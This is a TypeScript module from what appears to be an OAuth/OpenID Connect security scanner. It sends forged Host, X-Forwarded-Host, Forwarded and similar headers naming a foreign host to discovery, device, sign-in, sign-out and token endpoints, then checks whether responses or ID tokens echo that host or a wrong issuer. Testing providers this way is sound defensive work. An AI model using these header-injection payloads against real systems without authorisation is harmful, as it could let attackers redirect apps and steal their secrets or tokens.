import { type Attack, CONCURRENCY, forEach } from "../attack.ts";
import type { Headers } from "../http/request.ts";
import {
  Browser,
  DISCOVERY,
  parameterOf,
  parseObject,
  pathOf,
  sendTo,
  start,
  visit,
} from "../oidc/browser.ts";
import { requireClients } from "../oidc/clients.ts";
import { openScene } from "../oidc/scene.ts";
import { authenticate, codeForm, getCode, post, tokensIn } from "../oidc/tokens.ts";
import { FOREIGN_HOST } from "../payloads/foreign-targets.ts";
import { partsOf } from "../payloads/tokens.ts";

export const oidcHosts: Attack = {
  name: "oidc-hosts",
  about: "headers that name another host, in the discovery and in responses to apps",
  meaning: "An app learns addresses or an issuer of an attacker, and sends its secret there.",
  noun: "requests",
  verb: "named another host",
  needs: ["account", "clients"],

  async run(target, tally) {
    const { app } = requireClients(target);
    const scene = await openScene(target);
    const { provider, session } = scene;
    const { issuer } = provider;
    const named: readonly Headers[] = [
      { Host: FOREIGN_HOST },
      { "X-Forwarded-Host": FOREIGN_HOST, "X-Forwarded-Proto": "http" },
      { "X-Forwarded-Proto": "http", "X-Forwarded-Port": "8443", "X-Forwarded-Prefix": "/x" },
      { Forwarded: `host=${FOREIGN_HOST};proto=http` },
      {
        "X-Host": FOREIGN_HOST,
        "X-Original-Host": FOREIGN_HOST,
        "X-Forwarded-Server": FOREIGN_HOST,
      },
      { "X-Original-URL": `https://${FOREIGN_HOST}/`, "X-Rewrite-URL": "/x" },
      { Origin: `https://${FOREIGN_HOST}`, Referer: `https://${FOREIGN_HOST}/` },
      { Host: `${new URL(issuer).host}:8443` },
      { Host: `${new URL(issuer).host}@${FOREIGN_HOST}` },
    ];
    const proxy = target.access?.proxy?.address;
    const cases = named.flatMap((headers) =>
      [undefined, ...(proxy === undefined ? [] : [proxy])].map((from) => [headers, from] as const),
    );
    const isForeign = (text: string): boolean =>
      text.includes(FOREIGN_HOST) || text.includes(":8443") || text.includes("http://");
    await forEach(cases, CONCURRENCY, async ([headers, from]) => {
      const name = `${Object.entries(headers).map(([key, value]) => `${key}: ${value}`)}`;
      const sending = { headers, ...(from !== undefined && { from }) };
      const check = (what: string, text: string): void => {
        tally.tried();
        if (isForeign(text.replaceAll(issuer, ""))) tally.gotThrough(`${what} with ${name}`);
      };
      for (const path of [DISCOVERY, "/.well-known/oauth-authorization-server"]) {
        const discovery = await sendTo(target, { path: `${target.base}${path}`, ...sending });
        check("the discovery names another host", discovery.body);
        if (discovery.status === 200 && parseObject(discovery.body).issuer !== issuer)
          tally.gotThrough(`the discovery names another issuer with ${name}`);
      }
      const device = await sendTo(target, {
        path: pathOf(provider, "device_authorization_endpoint"),
        form: { scope: "openid", client_id: app.id },
        ...sending,
        headers: { ...headers, ...authenticate(app).headers },
      });
      if (device.status === 200) check("a device is sent to another host", device.body);

      const begun = new Browser(target, provider);
      const { path } = start(provider, app);
      check(
        "a sign-in continues at another host",
        `${(await begun.ask({ path, ...sending })).location}`,
      );
      const browser = new Browser(target, provider, session);
      const out = pathOf(provider, "end_session_endpoint");
      const page = await new Browser(target, provider).ask({ path: out, ...sending });
      check("a sign-out continues at another host", `${page.location} ${formsIn(page.body)}`);
      const back = await browser.ask({ path, ...sending });
      const place = { response: back, away: back.location, path, trail: [] };
      const iss = parameterOf(place, "iss");
      tally.tried();
      if (iss !== undefined && iss !== issuer)
        tally.gotThrough(`a response names another issuer with ${name}`);

      const code = await getCode(scene, app);
      const response = await sendTo(target, {
        path: pathOf(provider, "token_endpoint"),
        form: codeForm(code) as Record<string, string>,
        ...sending,
        headers: { ...headers, ...authenticate(app).headers },
      });
      const claims = partsOf(tokensIn(response)?.id ?? "")?.payload;
      tally.tried();
      if (claims !== undefined && claims.iss !== issuer)
        tally.gotThrough(`an ID token names another issuer with ${name}`);
    });
    tally.tried();
    const place = await visit(new Browser(target, provider, session), start(provider, app));
    if (parameterOf(place, "iss") !== issuer)
      tally.gotThrough(
        "a response does not name its issuer, so that an app can mix two servers up",
      );
    tally.tried();
    const unknown = await post(scene, "token_endpoint", authenticate(app), { grant_type: "x" });
    if (isForeign(unknown.body)) tally.gotThrough("an error names another host");
  },
};

const formsIn = (html: string): string =>
  String([...html.matchAll(/action="([^"]*)"/g)].map(([, action]) => action));
